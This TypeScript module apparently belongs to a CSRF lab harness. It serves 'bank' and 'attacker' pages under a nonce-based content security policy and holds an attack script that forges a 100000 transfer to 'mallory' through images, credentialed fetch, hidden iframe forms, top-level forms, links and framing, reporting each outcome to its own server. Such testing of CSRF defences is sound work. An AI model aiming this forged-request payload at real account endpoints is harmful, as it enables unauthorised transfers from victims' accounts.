import { randomBytes } from 'node:crypto';
import type http from 'node:http';

export interface Page {
  readonly title: string;
  /** Trusted HTML of ours: nothing in it comes from a request. */
  readonly body: string;
  /** Runs when the page is there, with `plan` as a constant. */
  readonly script: string;
  readonly plan: Readonly<Record<string, unknown>>;
  /** Origins that the page may load from, connect to, frame and send forms to, besides its own. */
  readonly reaches: readonly string[];
  readonly tone: 'bank' | 'attacker';
}

/** What each system has for Korean: the page may load no font of its own. */
const fonts =
  "'Apple SD Gothic Neo', 'Malgun Gothic', 'Noto Sans KR', 'Noto Sans CJK KR', 'Nanum Gothic', system-ui, sans-serif";
const colours = { bank: '#27468f', attacker: '#a3332a' };

/**
 * Sends a page with a policy of its own instead of the gateway's, which lets no page do anything. It names its origin
 * on the requests it makes, but never its address, which is a secret of the viewer.
 */
export function sendPage(response: http.ServerResponse, status: number, page: Page): void {
  const nonce = randomBytes(16).toString('base64');
  const reached = ["'self'", ...page.reaches].join(' ');
  const plan = JSON.stringify(page.plan).replaceAll('<', '\\u003c');
  response.writeHead(status, {
    'content-type': 'text/html; charset=utf-8',
    'content-security-policy': [
      "default-src 'none'",
      "base-uri 'none'",
      `script-src 'nonce-${nonce}'`,
      `style-src 'nonce-${nonce}'`,
      ...['img-src', 'connect-src', 'frame-src', 'form-action'].map((directive) => `${directive} ${reached}`),
    ].join('; '),
    'referrer-policy': 'strict-origin',
    'cross-origin-opener-policy': 'unsafe-none',
  });
  response.end(`<!doctype html>
<html lang="ko">
<meta charset="utf-8">
<meta name="viewport" content="width=device-width">
<title>${page.title}</title>
<style nonce="${nonce}">
  :root { color-scheme: light dark; }
  body { margin: 0; padding: 16px; font: 15px/1.5 ${fonts}; word-break: keep-all; }
  h1 { margin: 0 0 6px; font-size: 17px; border-left: 4px solid ${colours[page.tone]}; padding-left: 10px; }
  p { margin: 0 0 6px; }
  iframe { width: 100%; height: 110px; border: 1px dashed #888; }
  iframe[hidden], form { display: none; }
</style>
<body>
<h1>${page.title}</h1>
${page.body}
<script nonce="${nonce}">const plan = ${plan};
${page.script}</script>
`);
}

/** Tells the page's own server that it is done, so that the wire log shows it wherever the page stands. */
export const attackScript = `
const { attack, bank, run, token, header } = plan;
const done = (read) => fetch('done?run=' + run + '&read=' + read, { method: 'POST', keepalive: true });
const target = bank + 'transfer?run=' + run;
const fields = { to: 'mallory', amount: '100000', ...(token ? { csrf: token } : {}) };
function form(where) {
  const made = document.createElement('form');
  made.method = 'post';
  made.action = target;
  made.target = where;
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement('input');
    input.type = 'hidden';
    input.name = name;
    input.value = value;
    made.append(input);
  }
  document.body.append(made);
  return made;
}
function frame(name) {
  const made = document.createElement('iframe');
  made.name = name;
  made.title = name;
  document.body.append(made);
  return made;
}
const ways = {
  image() {
    const image = new Image();
    image.onload = image.onerror = () => done('no');
    image.src = target;
  },
  fetch() {
    const headers = header ? { 'x-requested-with': 'fetch' } : {};
    fetch(target, { method: 'POST', credentials: 'include', headers, body: new URLSearchParams(fields) })
      .then(() => done('yes'), () => done('no'));
  },
  'form-frame'() {
    const made = frame('hidden-frame');
    made.hidden = true;
    form('hidden-frame').submit();
    made.onload = () => done('no');
  },
  'form-top'() {
    form('_self').submit();
  },
  link() {
    const link = document.createElement('a');
    link.href = target;
    document.body.append(link);
    link.click();
  },
  embed() {
    const made = frame('bank');
    made.onload = () => done('no');
    made.src = bank + 'account?run=' + run;
  },
};
ways[attack === 'fetch-header' ? 'fetch' : attack]();
`;
